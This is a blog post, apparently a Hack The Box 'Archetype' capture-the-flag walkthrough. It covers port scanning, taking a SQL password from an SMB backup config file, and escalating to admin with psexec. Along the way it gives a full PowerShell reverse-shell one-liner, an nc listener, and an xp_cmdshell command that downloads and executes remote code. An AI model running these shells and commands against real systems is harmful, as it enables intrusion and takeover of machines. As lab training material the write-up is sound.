HTB: Starting Point

Written in


Going to start some hackthebox to learn more stuff. While I have skills in the detection area, working with Netflow and DNS, I don’t have a strong offensive mindset. Perhaps that will be beneficial, thinking in terms of offense to develop a better defense.Set the ports to scan:

ports=$(nmap -p- –min-rate=1000 -T4 | grep ^[0-9] | cut -d ‘/’ -f 1 | tr ‘\n’ ‘,’ | sed s/,$)

Perfom nmap on the target with the specified ports

nmap -sC -sV -p$ports

We can see that ports 135, 139, 445 and 1433 are openPort 135 is related to RPC service

Ports 139 and 445 are related to SMB service

Port 1433 is related to MySQL service

Connecting to the the SMB service

We call smbclient to list available shares


We then access the backups folder and see what files are inside, and download the file calledprod.dtsConfig


Analyzing prod.dtsConfig

        <DTSConfigurationFileInfo GeneratedBy="..." GeneratedFromPackageName="..." GeneratedFromPackageID="..." GeneratedDate="20.1.201910:01:34"/>
    <Configuration ConfiguredType="Property" Path="\Package.Connections[Destination].Properties[ConnectionString]" ValueType="String">
        <ConfiguredValue>Data Source=.;Password=M3g4c0rp123;User ID=ARCHETYPE\sql_svc;Initial Catalog=Catalog;Provider=SQLNCLI10.1;Persist Security Info=True;Auto Translate=False;</ConfiguredValue>

We see the password Password=M3g4c0rp123;User ID=ARCHETYPE\sql_svc, most likely for our SQL connection

Accessing SQL

Earlier we saw that port 1433 was open, and now we try to connect to it with the found credentials

We use Impacket’s to connect to the SQL server


We thencheck if the user has the role of a sysadmin


Creating a Powershell reverse shell


Remember to change the IP address to your VPN address

$client = New-Object System.Net.Sockets.TCPClient(<IPADDRESS>,443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "# ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()

We use the setup a Python3 webserver to allow our victim to download the shell

python3 -m http.server 80

We then setup a nc listener to wait for the victim to execute the shell script, and call back to us

nc -lvnp 443We modify our firewall rules to allow the victim to connect to us on port 80 to download the shell, and port 443 for the reverse connection

ufw allow from proto tcp to any port 80,443

Over at the victim end in the SQL server, we run the command to download and execute the shell script

xp_cmdshell "powershell "IEX (New-Object Net.WebClient).DownloadString(\"\");"

The nc listener should now recieve a connection from the victim to port 443, and you have a shell!

Accessing the user flag

We can list out files, and print out contents of the files. Here, we access the flag in sql_svc user’s Desktop


But we want to get the admin flag.

Getting Admin Flag

Using netcat, we get the Powershell history, and we find that the backups are mounted with administrator, and the passwordWith that information, we run Impacket’s psexec, and we get the rootaccount


We then navigate to the desktop and grab the flag, andwe’re done!



Leave a Reply

Fill in your details below or click an icon to log in: Logo

You are commenting using your account. Log Out /  Change )

Facebook photo

You are commenting using your Facebook account.Log Out /  Change )

Connecting to%s

%d bloggers like this: